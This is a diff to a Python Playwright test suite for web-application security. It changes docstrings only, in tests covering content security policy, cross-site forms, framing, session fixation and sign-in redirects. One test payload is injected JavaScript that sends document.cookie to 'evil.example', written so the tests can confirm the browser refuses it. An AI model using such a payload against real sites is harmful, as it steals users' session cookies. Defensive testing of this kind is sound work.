@@ -1,4 +1,4 @@
-"""What keeps a browser safe: no script of anybody else's, nothing from elsewhere, no other site's forms and frames."""
+"""Browser security: content security policy, no external resources, CSRF and framing protection."""
 
 from collections.abc import Iterator
 from urllib.parse import unquote, urlsplit
@@ -26,7 +26,7 @@ EVERY_KIND = (
 
 
 async def make_in_dialog(visit: Visit, alias: str) -> None:
-    """Create a key in the dialog that scripts make of its page."""
+    """Create a key in the dialog."""
     await visit.page.goto("/keys")
     await visit.page.get_by_role("link", name="New key").click()
     await visit.page.get_by_role("dialog").get_by_label("Name", exact=True).fill(alias)
@@ -36,7 +36,7 @@ async def make_in_dialog(visit: Visit, alias: str) -> None:
 
 @pytest.fixture(scope="module")
 def foreign_site() -> Iterator[str]:
-    """Another site on this machine, with a form that goes wherever its address says."""
+    """Another site on this machine with a form to any URL."""
 
     def form(request: Request) -> HTMLResponse:
         fields = "".join(
@@ -79,7 +79,7 @@ SMUGGLED = """() => {
   document.querySelector("#trap").click();
   return fetch("http://evil.example/?" + document.cookie).then(() => "sent", () => "refused");
 }"""
-"""What somebody would put into a page who found a place where it is not escaped."""
+"""Markup that an attacker would inject into an unescaped value."""
 REFUSED = [
     "script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr", "img-src", "connect-src", "frame-src",
 ]  # fmt: skip
@@ -104,7 +104,7 @@ async def test_markup_that_got_into_a_page_would_do_nothing(as_jane: Visit, path
 async def test_pages_have_no_script_within_and_need_nothing_from_elsewhere(
     as_newcomer: Visit, newcomer: Newcomer
 ) -> None:
-    """The window itself checks for complaints and foreign requests when it is closed."""
+    """The window checks for errors and foreign requests when it closes."""
     await make_in_dialog(as_newcomer, f"{newcomer.user_id} walk")
     await as_newcomer.follow("Done")
     await as_newcomer.press(f"Block {newcomer.user_id} walk")
@@ -136,7 +136,7 @@ async def test_everything_works_with_scripts_turned_off(window: OpenWindow, newc
 async def test_another_sites_form_creates_no_key(
     as_newcomer: Visit, newcomer: Newcomer, foreign_site: str, api: AskApi
 ) -> None:
-    """For cookies, another port of this machine is the same site: only the origin tells them apart."""
+    """For cookies, another port of this machine is the same site: only the origin differs."""
     target = f"{as_newcomer.origin}/keys"
     await as_newcomer.page.goto(f"{foreign_site}/?action={target}&alias=stolen&max_budget=1")
     assert (await as_newcomer.press("Win")).status == 403
@@ -163,7 +163,7 @@ async def test_another_site_cannot_put_a_page_into_a_frame(as_jane: Visit, forei
 
 
 async def test_a_session_somebody_planted_is_not_taken_over(visit: Visit) -> None:
-    """Whoever put an id into the browser must not know the one that counts after the sign-in."""
+    """An attacker who set the session id must not know the id after sign-in."""
     planted = "A" * 43
     await visit.page.context.add_cookies([{"name": SESSION, "value": planted, "url": visit.origin}])
     await visit.become("Jane Doe")
@@ -189,7 +189,7 @@ async def session_of(visit: Visit) -> str:
 async def test_a_sign_in_leads_nowhere_else(visit: Visit, away: str) -> None:
     await visit.page.goto(f"/sign-in?next={away}")
     assert await visit.page.locator("form[action='/sign-in'] [name=next]").first.get_attribute("value") == "/"
-    # A form that was tampered with on its way leads nowhere else either.
+    # A form that was changed on the way cannot lead elsewhere either.
     await visit.page.locator("form[action='/sign-in'] [name=next]").evaluate_all(
         "(fields, away) => fields.forEach(field => { field.value = away })", unquote(away)
     )
